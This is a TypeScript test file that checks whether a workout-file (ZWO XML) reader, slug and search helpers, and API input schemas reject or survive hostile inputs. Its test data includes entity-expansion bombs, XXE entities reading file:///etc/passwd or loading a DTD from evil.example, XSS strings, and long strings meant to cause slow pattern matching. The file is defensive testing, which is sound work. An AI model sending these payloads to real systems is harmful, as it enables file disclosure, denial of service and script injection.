/**
 * Texts and files that are made to keep a server or a phone busy: entities that swell, depth without bottom, and
 * letters over which a careless pattern goes back and forth. Everything takes time in proportion to its length.
 */
import * as z from 'zod/mini';
import { describe, expect, test } from 'vitest';
import { searchText, searchWords } from '#core/domain/search-text.ts';
import { workoutFileLimits } from '#core/formats/format-names.ts';
import { readZwo } from '#core/formats/read-zwo.ts';
import { slugOf } from '#core/model/ids.ts';
import { addresses } from '#server/app.ts';
import { goodInput } from './hostile.ts';

const encode = (text: string) => new TextEncoder().encode(text);
const file = (inside: string) => `<workout_file><workout>${inside}</workout></workout_file>`;
const step = '<SteadyState Duration="60" Power="0.5"/>';

describe('a workout file', () => {
  test.each<[string, string, string]>([
    [
      'entities that double',
      '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><workout_file>&c;</workout_file>',
      'documentType',
    ],
    [
      'one long entity used often',
      `<!DOCTYPE x [<!ENTITY a "${'a'.repeat(100_000)}">]><x>${'&a;'.repeat(10_000)}</x>`,
      'documentType',
    ],
    [
      'a file of the device',
      '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><workout_file>&f;</workout_file>',
      'documentType',
    ],
    [
      'an address in the network',
      '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><x/>',
      'documentType',
    ],
    ['an entity that is not defined', file('&f;'), 'entity'],
    ['a definition further down', '<workout_file><!DOCTYPE x [<!ENTITY a "b">]></workout_file>', 'documentType'],
    [
      'a document type from elsewhere',
      '<!DOCTYPE html PUBLIC "x" "http://evil.example/x.dtd"><workout_file/>',
      'noSteps',
    ],
    ['elements in elements', `<workout_file>${'<a>'.repeat(200_000)}`, 'tooDeep'],
    [
      'a hundred attributes too many',
      `<workout_file ${Array.from({ length: 300 }, (_, n) => `a${n}="1"`).join(' ')}/>`,
      'syntax',
    ],
    ['more steps than anybody rides', file(step.repeat(100_000)), 'tooManySteps'],
    [
      'one step a million times',
      file('<IntervalsT Repeat="1000000" OnDuration="1" OffDuration="1" OnPower="1" OffPower="0.5"/>'),
      'tooManySteps',
    ],
    ['longer than a life', file('<SteadyState Duration="9e99" Power="0.5"/>'), 'badNumber'],
    ['more power than a number', file('<SteadyState Duration="60" Power="1e400"/>'), 'badNumber'],
    [
      'more words than anybody reads',
      file(
        `<SteadyState Duration="60" Power="0.5">${'<textevent timeoffset="1" message="a"/>'.repeat(50_000)}</SteadyState>`,
      ),
      'tooManyMessages',
    ],
    ['too many bytes', ' '.repeat(workoutFileLimits.bytes + 1), 'tooLarge'],
  ])('with %s is refused', (_, text, code) => {
    const result = readZwo(encode(text), 'file');
    expect(result.ok ? 'read' : result.error.code).toBe(code);
  });

  test('a script in it is a text like any other', () => {
    const evil = '&lt;script&gt;alert(1)&lt;/script&gt;';
    const text = `<workout_file><author>${evil}</author><name>${evil}</name><description><![CDATA[<img src=x onerror=alert(1)>]]></description><tags><tag name="${evil}"/></tags><workout><SteadyState Duration="60" Power="0.5"><textevent timeoffset="0" message="${evil}"/></SteadyState></workout></workout_file>`;
    const result = readZwo(encode(text), 'file');
    expect(result).toMatchObject({
      ok: true,
      workout: { name: '<script>alert(1)</script>', tags: ['<script>alert(1)</script>'] },
    });
  });
});

/** Letters over which patterns stumble: each is repeated to the length of the text. */
const letters = [
  'a',
  ' ',
  '\t',
  '\n',
  '-',
  '.',
  '@',
  '/',
  '%',
  '&',
  '<',
  '<a ',
  'a=',
  '"',
  '0',
  '1e',
  '😀',
  '\u0301',
  'ﷺ',
  '\u200B',
  'a-',
  ' a',
  '__',
];
const endings = ['', '!', '>'];

/** Is the work done in so many milliseconds? A busy machine gets three tries. */
function isQuick(work: () => unknown, most: number): boolean {
  return [0, 1, 2].some(() => {
    const from = performance.now();
    work();
    return performance.now() - from < most;
  });
}

const longTexts = (length: number) =>
  letters.flatMap((letter) => endings.map((ending) => letter.repeat(length / letter.length) + ending));

describe('a text of strangers', () => {
  // What stumbles needs minutes for these; what reads them once is far below, on a busy machine too.
  const most = 500;

  test('of 40 kB does not hold up what makes slugs and search words of it', () => {
    for (const text of longTexts(40_000)) {
      expect(isQuick(() => slugOf(text, '0197a000-0000-7000-8000-00000000a001'), most)).toBe(true);
      expect(isQuick(() => searchWords(searchText(text)), most)).toBe(true);
    }
  });

  test('of 100 kB does not hold up the reader of workout files, wherever it stands', () => {
    for (const text of longTexts(100_000)) {
      for (const inside of [
        text,
        file(text),
        file(`<SteadyState Duration="${text}"/>`),
        `<workout_file ${text}/>`,
        `<!--${text}`,
      ])
        expect(isQuick(() => readZwo(encode(inside), 'file'), most * 2)).toBe(true);
    }
  });

  test('does not hold up the shapes of the contract, in any of their fields', () => {
    const schemas = [...new Set(addresses.map(([, , endpoint]) => endpoint))];
    const texts = letters.map((letter) => `${letter.repeat(20_000 / letter.length)}!`);
    for (const endpoint of schemas) {
      const fields = Object.keys(goodInput(endpoint, {}));
      const known = z.toJSONSchema(endpoint.input, { io: 'output', unrepresentable: 'any' }) as { properties?: object };
      for (const text of texts) {
        const input = Object.fromEntries(
          [...fields, ...Object.keys(known.properties ?? {})].map((field) => [field, text]),
        );
        expect(isQuick(() => endpoint.input.safeParse(input), most)).toBe(true);
      }
    }
  });
});
